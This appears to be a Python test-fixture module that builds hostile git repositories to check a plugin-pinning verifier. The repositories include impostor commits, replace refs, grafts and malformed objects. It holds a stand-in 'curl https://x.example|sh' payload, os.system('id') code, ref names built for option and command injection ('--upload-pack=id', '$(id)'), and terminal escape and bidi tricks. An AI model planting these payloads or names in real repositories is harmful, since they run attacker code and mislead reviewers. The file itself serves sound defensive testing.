"""Objects and refs that are not what a pin needs, or that pretend to be."""

from __future__ import annotations

from typing import TYPE_CHECKING

from animals import FAIL, TAME, UNSEEN, WARN, in_repository
from git_repositories import Repository

if TYPE_CHECKING:
    from animals import Cage

NOT_HERE = "0123456789abcdef0123456789abcdef01234567"
NO_COMMIT = "git-not-a-commit"
IMPOSTOR = "git-commit-not-on-branch"


def raw_commit(repository: Repository, text: bytes) -> str:
    """Store a commit byte for byte, put main on it, and return its id."""
    commit = repository.git("hash-object", "-t", "commit", "-w", "--literally", "--stdin", stdin=text)
    (repository.path / "refs/heads/main").write_text(f"{commit}\n", encoding="ascii")
    return commit


def tree_of(cage: Cage, repository: Repository) -> str:
    return repository.git("rev-parse", f"{repository.commit(cage.plugin())}^{{tree}}")


@in_repository(FAIL, IMPOSTOR, case="C24")
def impostor_commit(cage: Cage, repository: Repository) -> str:
    """A commit that only a pull request has, served under the parent's name."""
    good = repository.commit(cage.plugin())
    return repository.commit(cage.plugin("tags: [evil]"), onto="refs/pull/7/head", parent=good)


@in_repository(FAIL, IMPOSTOR, case="C24")
def borrowed_objects(cage: Cage, repository: Repository) -> str:
    """A fork's commit, which the server finds through objects/info/alternates."""
    repository.commit(cage.plugin())
    fork = Repository.create(cage.served / "forks" / repository.path.name)
    (repository.path / "objects/info/alternates").write_text(f"{fork.path}/objects\n", encoding="utf-8")
    return fork.commit(cage.plugin("tags: [fork]"))


@in_repository(FAIL, IMPOSTOR, case="C24")
def grafted_history(cage: Cage, repository: Repository) -> str:
    """The server's info/grafts makes a stranger's commit a parent of main."""
    stranger = repository.commit(cage.plugin("tags: [stranger]"), onto="refs/pull/1/head")
    tip = repository.commit(cage.plugin())
    (repository.path / "info/grafts").write_text(f"{tip} {stranger}\n", encoding="utf-8")
    return stranger


@in_repository(FAIL, IMPOSTOR, case="C24")
def replaced_tip(cage: Cage, repository: Repository) -> str:
    """A replace ref says that the tip of main is a commit which stands on no branch."""
    tip = repository.commit(cage.plugin())
    evil = repository.commit(cage.plugin("tags: [evil]"), onto="refs/pull/2/head")
    repository.git("update-ref", f"refs/replace/{tip}", evil)
    return evil


@in_repository(TAME)
def replaced_by_evil(cage: Cage, repository: Repository) -> str:
    """A replace ref would put a tree that runs at once in the place of the good one."""
    good = repository.commit(cage.plugin())
    evil = repository.commit(cage.plugin(more={"__init__.py": b"import os\nos.system('curl https://x.example|sh')\n"}))
    repository.git("update-ref", "refs/heads/main", good)
    repository.git("update-ref", f"refs/replace/{good}", evil)
    return good


@in_repository(FAIL, IMPOSTOR, case="C24 C27")
def branch_called_like_the_commit(cage: Cage, repository: Repository) -> str:
    """A branch and a tag bear the forty digits of an impostor and point to an honest commit."""
    evil = repository.commit(cage.plugin("tags: [evil]"), onto="refs/pull/3/head")
    good = repository.commit(cage.plugin())
    for folder in ("heads", "tags"):
        repository.git("update-ref", f"refs/{folder}/{evil}", good)
    return evil


@in_repository(FAIL, NO_COMMIT, case="A12 C24")
def tag_object(cage: Cage, repository: Repository) -> str:
    """The forty digits of an annotated tag."""
    repository.commit(cage.plugin())
    return repository.tag("v1")


@in_repository(FAIL, NO_COMMIT, case="C24")
def tag_of_a_tag_of_a_tree(cage: Cage, repository: Repository) -> str:
    """A tag that points to a tag that points to a tree: there is no commit at the end."""
    repository.tag("inner", tree_of(cage, repository))
    return repository.tag("outer", "refs/tags/inner")


@in_repository(FAIL, NO_COMMIT, case="C24")
def tree_object(cage: Cage, repository: Repository) -> str:
    """The forty digits of a tree."""
    return tree_of(cage, repository)


@in_repository(FAIL, NO_COMMIT, case="C24")
def blob_object(cage: Cage, repository: Repository) -> str:
    """The forty digits of a file."""
    repository.commit(cage.plugin())
    return repository.git("rev-parse", "main:plugin.yaml")


@in_repository(FAIL, "git-commit-missing", case="C29")
def commit_that_is_nowhere(cage: Cage, repository: Repository) -> str:
    """Forty digits that the repository does not have."""
    repository.commit(cage.plugin())
    return NOT_HERE


@in_repository(FAIL, "git-commit-missing")
def empty_repository(cage: Cage, repository: Repository) -> str:
    """A repository without a commit, whose HEAD is a loop."""
    (repository.path / "HEAD").write_text("ref: refs/heads/loop\n", encoding="ascii")
    return cage.name and NOT_HERE


@in_repository(TAME)
def head_that_leads_nowhere(cage: Cage, repository: Repository) -> str:
    """HEAD names a branch that does not exist, in letters that turn the line round."""
    commit = repository.commit(cage.plugin())
    (repository.path / "HEAD").write_text("ref: refs/heads/\u202egone\n", encoding="utf-8")
    return commit


@in_repository(UNSEEN)
def half_a_repository(cage: Cage, repository: Repository) -> str:
    """A file of the commit's tree is missing in the repository."""
    entries = repository.git("ls-tree", tree_of(cage, repository)).splitlines()
    rows = [tuple(line.replace("\t", " ").split(" ")) for line in entries]
    kept = [(mode, oid, name) for mode, _, oid, name in rows]
    return repository.commit_tree(repository.tree(*kept, ("100644", "1" * 40, "missing.py")))


@in_repository(UNSEEN)
def missing_tree(cage: Cage, repository: Repository) -> str:
    """A folder of the commit's tree is missing in the repository."""
    return repository.commit_tree(repository.tree(("040000", "2" * 40, cage.name)))


@in_repository(FAIL, "git-commit-missing")
def commit_without_a_tree(cage: Cage, repository: Repository) -> str:
    """A commit that names no tree."""
    repository.commit(cage.plugin())
    return raw_commit(repository, b"author A <a@example.org> 1700000000 +0000\n\nempty\n")


@in_repository(TAME)
def commit_in_colours(cage: Cage, repository: Repository) -> str:
    """Author, subject and body hold escape codes, another author, bidi marks and a command of a runner."""
    who = b"\x1b[31mAnn\x1b]0;owned\x07 \xe2\x80\xaegro.elpmaxe <ann@example.org\x1b[2J> 1700000000 +0000"
    head = b"tree %s\nauthor %s\ncommitter %s\n\n" % (tree_of(cage, repository).encode(), who, who)
    return raw_commit(repository, head + b"::error::owned\n\x1b[8mhidden\n<script>1</script>\n")


@in_repository({**TAME, "check": WARN}, {"check": "review-pin-from-the-future"})
def commit_from_the_future(cage: Cage, repository: Repository) -> str:
    """A commit of the year 2500, which would always be the newest."""
    head = b"tree %s\nauthor A <a@example.org> 1 +0000\n" % tree_of(cage, repository).encode()
    return raw_commit(repository, head + b"committer A <a@example.org> 16725225600 +0000\n\nlater\n")


@in_repository({**TAME, "check": WARN}, {"check": "review-pin-from-the-future"})
def commit_beyond_all_time(cage: Cage, repository: Repository) -> str:
    """A date of forty digits in a time zone that there is not."""
    head = b"tree %s\nauthor A <a@example.org> 1 +0000\n" % tree_of(cage, repository).encode()
    return raw_commit(repository, head + b"committer A <a@example.org> %s +9999\n\nlater\n" % (b"9" * 40))


@in_repository(FAIL, "git-object-refused")
def one_name_twice(cage: Cage, repository: Repository) -> str:
    """A tree with two files of one name: git shows the one and writes the other."""
    good, evil = repository.blob(cage.code), repository.blob(b"import os\nos.system('id')\n")
    rows = b"".join(b"100644 __init__.py\0" + bytes.fromhex(oid) for oid in (good, evil))
    tree = repository.git("hash-object", "-t", "tree", "-w", "--literally", "--stdin", stdin=rows)
    return repository.commit_tree(tree)


@in_repository(TAME)
def refs_like_options(cage: Cage, repository: Repository) -> str:
    """Branches and tags that a careless command line takes for options, or that steer a terminal."""
    commit = repository.commit(cage.plugin())
    names = ("-o", "--upload-pack=id", "--exec=id", "\u202etxt", "a\u200bb", "x;id", "$(id)", "`id`", "::error::x")
    for name in names:
        for folder in ("heads", "tags"):
            place = repository.path / "refs" / folder / name
            place.write_text(f"{commit}\n", encoding="ascii")
    return commit


@in_repository(TAME)
def two_thousand_branches(cage: Cage, repository: Repository) -> str:
    """Two thousand branches and as many tags, all of them somewhere else than the commit."""
    commit = repository.commit(cage.plugin())
    other = repository.commit({"other": b""}, onto="refs/heads/other")
    lines = [f"{other} refs/{kind}/x{number:05d}\n" for kind in ("heads", "tags") for number in range(2000)]
    (repository.path / "packed-refs").write_text("".join(sorted(lines, key=lambda line: line[41:])), encoding="ascii")
    return commit
